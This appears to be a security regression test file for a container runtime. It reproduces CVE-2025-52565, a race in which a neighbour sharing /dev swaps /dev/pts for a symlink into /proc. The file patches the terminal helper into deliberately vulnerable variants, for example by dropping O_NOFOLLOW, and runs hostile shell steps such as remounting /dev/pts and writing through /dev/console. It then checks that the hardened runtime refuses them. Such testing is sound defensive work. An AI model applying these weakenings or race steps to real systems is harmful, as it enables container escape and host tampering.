/**
 * CVE-2025-52565 with a terminal: the slave is bound at /dev/console before /proc is made read-only. A neighbour that shares /dev
 * swaps /dev/pts meanwhile, so that the slave's name leads to a file of /proc, which /dev/console then is, and can be written.
 */
import { existsSync, mkdirSync, rmdirSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import t, { type Test } from 'tap'
import type { Spec } from '../../lib/launch/oci-spec.js'
import { attackLab } from '../fixtures/attack-lab.js'
import { temporaryDirectory } from '../fixtures/directory.js'
import { all, type Edits } from '../fixtures/weak-helper.js'

const lab = await attackLab(t)
/** The host name is the container's own, so that nothing of the host is touched where the attack gets through. */
const target = '/proc/sys/kernel/hostname'
const command = ['sh', '-c', 'echo owned > /dev/console; test "$(hostname)" = owned']

/** A shared /dev has no null device to mask paths with; they play no part here, those that are read-only do. */
const unmasked = (spec: Spec): Spec => ({ ...spec, linux: { ...spec.linux!, maskedPaths: [] } })

/** No protection less, but time to attack: until the name of the slave is a link. */
const slow: Edits = {
  'terminal.c': [
    [
      '  if (console && mount_console(',
      '  struct stat swapped = {0};\n' +
        '  while (!S_ISLNK(swapped.st_mode)) fstatat(child->root, "dev/pts/0", &swapped, AT_SYMLINK_NOFOLLOW);\n' +
        '  if (console && mount_console(',
    ],
  ],
}
const byName: Edits = {
  'terminal.c': [
    [
      'open_tree(slave, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH)',
      'open_tree(child->root, "dev/pts/0", OPEN_TREE_CLONE)',
    ],
  ],
}
const following: Edits = {
  'terminal.c': [
    ['O_CREAT | O_EXCL | O_NOFOLLOW', 'O_CREAT | O_EXCL'],
    [
      'sys_openat2(directory, name, O_PATH, 0, RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS)',
      'resolve(child->root, "dev/console", O_PATH)',
    ],
  ],
}

/** A /dev that is shared, and a neighbour who swaps its pts as soon as the devpts and what comes after it are mounted. */
async function neighbour(t: Test): Promise<{ readonly volumes: string[]; readonly swapped: () => Promise<void> }> {
  const shared = await temporaryDirectory(t, 'podling-shared-dev-')
  return {
    volumes: [`${shared}:/dev`],
    async swapped() {
      while (!existsSync(join(shared, 'shm'))) await delay(5)
      // A directory that is a mount point elsewhere can be removed: the mount goes with it (rmdir(2), Linux 3.18).
      rmdirSync(join(shared, 'pts'))
      mkdirSync(join(shared, 'pts'))
      symlinkSync(target, join(shared, 'pts', '0'))
    },
  }
}

t.test('with a slave that is looked up by its name', async (t) => {
  const { volumes, swapped } = await neighbour(t)
  const [outcome] = await Promise.all([
    lab.weak({ command, tty: true, volumes }, { spec: unmasked, helper: all(slow, byName) }),
    swapped(),
  ])
  t.match(outcome, { exitCode: 0 }, 'the container writes what is read-only in it')
})

t.test('the same swap, and no protection less', async (t) => {
  const { volumes, swapped } = await neighbour(t)
  const [outcome] = await Promise.all([
    lab.weak({ command, tty: true, volumes }, { spec: unmasked, helper: slow }),
    swapped(),
  ])
  t.match(outcome.error, { code: 'START_FAILED', message: /^make the terminal of the container: / })
})

t.test('a /dev/console that is a link', async (t) => {
  const shared = await temporaryDirectory(t, 'podling-shared-dev-')
  symlinkSync('/bin/rubbish', join(shared, 'console'))
  const options = { command: ['sh', '-c', 'test -c /bin/rubbish'], tty: true, volumes: [`${shared}:/dev`] }
  t.match(
    await lab.weak(options, { spec: unmasked, helper: following }),
    { exitCode: 0 },
    'followed: what it leads to is covered',
  )
  const { error } = await lab.strong(options)
  t.match(error, { code: 'START_FAILED', message: /terminal of the container.*symbolic link/ })
})

t.test('a /dev/pts that is no devpts any more', async (t) => {
  await using container = await lab.runtime.run({
    image: lab.image,
    command: ['sleep', '1000'],
    network: 'none',
    privileged: true,
  })
  t.match(
    await container.exec(['sh', '-c', 'umount /dev/pts && ln -s /proc/1/fd /dev/pts/ptmx; test -L /dev/pts/ptmx']),
    {
      exitCode: 0,
    },
  )
  await t.rejects(container.exec(['true'], { tty: true }), { code: 'START_FAILED', message: /not a devpts/ })
  t.match(
    await container.exec([
      'sh',
      '-c',
      'rm /dev/pts/ptmx; mount -t devpts devpts /dev/pts && mount --bind /dev/null /dev/pts/ptmx',
    ]),
    {
      exitCode: 0,
    },
  )
  await t.rejects(container.exec(['true'], { tty: true }), { code: 'START_FAILED', errno: 'EXDEV' })
})

t.test('a container can type into no terminal but its own, and not there', async (t) => {
  await using container = await lab.runtime.run({
    image: lab.image,
    command: ['sleep', '1000'],
    network: 'none',
    tty: true,
  })
  // In its own terminal it may, where the kernel still has that (dev.tty.legacy_tiocsti): whoever is attached reads it, no shell.
  t.match((await container.exec(['attack', 'tiocsti'])).stdout, 'ENXIO', 'a command without one has none')
})
